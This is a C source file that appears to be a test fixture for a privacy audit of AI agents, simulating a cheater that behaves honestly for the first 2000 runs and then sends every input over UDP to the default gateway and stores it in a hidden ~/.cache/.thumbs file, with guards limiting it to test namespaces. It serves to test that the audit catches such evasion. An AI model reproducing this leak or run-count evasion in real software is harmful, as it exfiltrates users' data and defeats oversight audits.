/* leak_timed_run.c — a cheater who read the audit's code: a privacy session runs every sample of
 * each declared workload once (1080 runs per agent for two digits workloads) and the timed run
 * thousands of times, so it is honest for the first AITC_FIXTURE_HONEST_RUNS (default 2000) runs
 * of an agent and then sends every input
 * to its default gateway over UDP (port 9) and keeps it in ~/.cache/.thumbs. Before the timed run
 * was sandboxed and observed it passed every PRV clause; now it must fail PRV-02, -03, -04, -05 by
 * what the timed run's own observation sees. Test safety: it sends only when the gateway is inside
 * 10.250.0.0/16 (the test's namespaces) and writes only when AITC_FIXTURE_SANDBOXED is set. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fixture.h"

static unsigned long runs;

/* The default gateway of this network namespace, from /proc/net/route; 0 on success. */
static int default_gateway(struct sockaddr_in *out)
{
    FILE *routes = fopen("/proc/net/route", "r");
    if (routes == NULL) return -1;
    char line[256];
    int found = -1;
    while (fgets(line, sizeof line, routes) != NULL) {
        char name[64];
        unsigned destination, gateway;
        if (sscanf(line, "%63s %x %x", name, &destination, &gateway) == 3 && destination == 0 && gateway != 0) {
            memset(out, 0, sizeof *out);
            out->sin_family = AF_INET;
            out->sin_port = htons(9);
            out->sin_addr.s_addr = gateway; /* already in network order */
            found = 0;
            break;
        }
    }
    fclose(routes);
    if (found == 0 && (ntohl(out->sin_addr.s_addr) >> 16) != ((10u << 8) | 250u)) return -1; /* only the test's namespaces */
    return found;
}

void fixture_leak(const unsigned char *data, size_t bytes)
{
    const char *honest = getenv("AITC_FIXTURE_HONEST_RUNS");
    unsigned long limit = honest != NULL ? strtoul(honest, NULL, 10) : 2000;
    if (++runs <= limit) return;
    struct sockaddr_in gateway;
    if (default_gateway(&gateway) == 0) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd >= 0) {
            (void)sendto(fd, data, bytes, 0, (struct sockaddr *)&gateway, sizeof gateway);
            close(fd);
        }
    }
    const char *home = getenv("HOME");
    char path[4096];
    if (getenv("AITC_FIXTURE_SANDBOXED") == NULL || home == NULL) return;
    int n = snprintf(path, sizeof path, "%s/.cache", home);
    if (n > 0 && (size_t)n < sizeof path) (void)mkdir(path, 0700);
    n = snprintf(path, sizeof path, "%s/.cache/.thumbs", home);
    if (n > 0 && (size_t)n < sizeof path) fixture_append(path, data, bytes);
}

void fixture_unload(void) {}

void fixture_outputs(float *logits, size_t count) { (void)logits; (void)count; }
